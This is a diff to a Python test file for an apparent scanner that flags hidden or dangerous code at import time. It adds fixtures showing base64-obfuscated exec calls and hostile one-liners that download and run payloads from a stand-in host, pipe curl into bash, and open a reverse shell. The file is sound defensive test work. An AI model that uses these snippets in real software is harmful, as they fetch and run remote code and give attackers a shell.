@@ -57,6 +57,10 @@ HIDDEN = {
     f"subprocess.Popen([sys.executable, '-c', \"import base64; exec(base64.b64decode('{B64}'))\"])",
     "as a command": f"import os, base64\nos.system(base64.b64decode('{B64}').decode())",
     "one way of a branch": f"import base64\nx = base64.b64decode('{B64}')\nif 1 > 2:\n    x = 'pass'\nexec(x)",
+    "out of a literal": f"import base64\n[exec][0](base64.b64decode('{B64}'))",
+    "by a look-up": f"import base64, builtins\nbuiltins.__dict__.get('exec')(base64.b64decode('{B64}'))",
+    "given to something unknown": f"import base64, helper\nrunners = helper.all()\nfor run in runners:\n    run(base64.b64decode('{B64}'))",
+    "in a command line": "import os\nos.system('python -c \"exec(__import__(\\'base64\\').b64decode(\\'aW1w\\'))\"')",
     "in old Python": f"print 'installing'\nexec(__import__('base64').b64decode('{B64}'))",
 }
 
@@ -78,6 +82,12 @@ GRAVE = {
     "urllib.request.urlretrieve('https://x.example.org/x', p)\nos.startfile(p)",
     "starts what it writes": "import requests, subprocess\n"
     "with open('/tmp/x', 'wb') as f:\n    f.write(requests.get('https://x.example.org').content)\nsubprocess.run(['/tmp/x'])",
+    "writes a program that does": (
+        "from tempfile import NamedTemporaryFile as f\nfrom sys import executable as e\nfrom os import system as s\n"
+        "t = f(delete=False)\nt.write(b\"\"\"from urllib.request import urlopen as u;exec(u('https://x.example.org').read())\"\"\")\n"
+        "t.close()\ns(f'start {e} {t.name}')"
+    ),
+    "fetches and starts by a command": "import os\nos.system('curl -o %TEMP%/a.exe https://x.example.org/a && %TEMP%/a.exe')",
     "pipes into a shell": "import subprocess\nsubprocess.run('curl -s https://x.example.org/i.sh | bash', shell=True)",
     "hidden powershell": "import subprocess\nsubprocess.Popen(['powershell', '-EncodedCommand', 'AAAA'])",
     "a shell to elsewhere": "import os\nos.system('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')",
@@ -141,6 +151,11 @@ def test_what_an_import_only_defines_does_not_run():
 )
 def test_what_may_have_its_reasons_is_a_warning(code, trait):
     assert [(f.trait, f.level) for f in read(code, Moment.IMPORT)] == [(trait, Level.WARN)]
+
+
+def test_decoded_code_is_a_warning_whatever_becomes_of_it():
+    found = read(f"import base64\nx = base64.b64decode('{B64}')\n", Moment.IMPORT)
+    assert [(f.trait, f.level, f.line) for f in found] == [(Trait.HIDDEN_CODE, Level.WARN, 2)]
 
 
 def test_decoded_code_is_shown_beside_the_line():
